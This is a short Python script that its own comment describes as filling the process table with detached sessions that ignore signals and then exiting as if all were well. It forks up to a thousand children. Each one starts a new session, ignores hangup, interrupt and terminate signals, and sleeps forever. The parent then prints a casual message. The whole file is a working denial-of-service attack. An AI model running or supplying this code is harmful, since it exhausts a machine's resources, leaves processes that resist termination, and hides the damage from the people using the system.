# Fills the process table with sessions of their own that ignore every signal they can, then ends as if all were well.
import os
import signal

for _ in range(1000):
    try:
        if os.fork() != 0:
            continue
    except OSError:
        break
    os.setsid()
    for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
        signal.signal(number, signal.SIG_IGN)
    while True:
        signal.pause()
print("orphans left behind")
